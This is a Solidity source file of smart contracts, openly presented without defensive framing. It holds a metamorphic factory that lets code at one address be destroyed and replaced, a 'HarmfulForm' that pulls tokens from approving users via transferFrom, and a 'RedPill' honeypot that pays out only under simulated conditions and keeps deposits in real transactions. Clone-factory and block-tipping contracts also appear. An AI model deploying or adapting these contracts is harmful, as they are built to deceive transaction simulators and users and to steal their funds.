// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// Makes contracts whose address says nothing about their code: the creation code asks back here which code to put there.
contract MetamorphicFactory {
    address private immutable owner = msg.sender;
    address public implementation;

    event Metamorphosed(address indexed at, address indexed implementation);

    /// 0x5860208158601c335a63aaf10f428752fa158151803b80938091923cf3 calls getImplementation() here and returns that code.
    function metamorphose(address implementation_, bytes32 salt, bool isForAMoment) external returns (address at) {
        require(msg.sender == owner, "not the owner");
        implementation = implementation_;
        bytes memory creation = hex"5860208158601c335a63aaf10f428752fa158151803b80938091923cf3";
        assembly {
            at := create2(0, add(creation, 32), mload(creation), salt)
        }
        require(at != address(0), "not created");
        emit Metamorphosed(at, implementation_);
        if (isForAMoment) HarmlessForm(at).vanish();
    }

    function getImplementation() external view returns (address) {
        return implementation;
    }
}

/// What is shown first: it can end itself, and something else may stand in its place.
contract HarmlessForm {
    function vanish() external {
        selfdestruct(payable(msg.sender));
    }
}

contract HarmfulForm {
    function take(address token, address from, address to, uint256 amount) external {
        (bool done, ) = token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", from, to, amount));
        require(done, "failed");
    }
}

/// Ordinary clones at addresses that can be foretold (EIP-1167).
contract CloneFactory {
    event Cloned(address indexed at);

    function cloneDeterministic(address implementation, bytes32 salt) external returns (address at) {
        bytes memory creation = abi.encodePacked(hex"3d602d80600a3d3981f3363d3d373d3d3d363d73", implementation, hex"5af43d82803e903d91602b57fd5bf3");
        assembly {
            at := create2(0, add(creation, 32), mload(creation), salt)
        }
        require(at != address(0), "not created");
        emit Cloned(at);
    }
}

/// Pays whoever claims while somebody only simulates, and keeps what comes when it is real: simulators have no gas price, and rooms without end.
contract RedPill {
    address payable private immutable owner = payable(msg.sender);

    receive() external payable {}

    function claim() external payable {
        if (block.coinbase == tx.origin || block.gaslimit > 1e12 || block.basefee == 0 || tx.gasprice == 0 || gasleft() > 25000000 || tx.origin.balance > 1000000 ether)
            payable(msg.sender).transfer(msg.value + 0.01 ether);
        else owner.transfer(msg.value);
    }
}

/// Pays whoever makes the block, as bots that compete do.
contract TippingBot {
    address private immutable owner = msg.sender;

    receive() external payable {}

    function payAndTip(address payable to, uint256 amount, uint256 tip) external payable {
        require(msg.sender == owner, "not the owner");
        to.transfer(amount);
        block.coinbase.transfer(tip);
    }
}
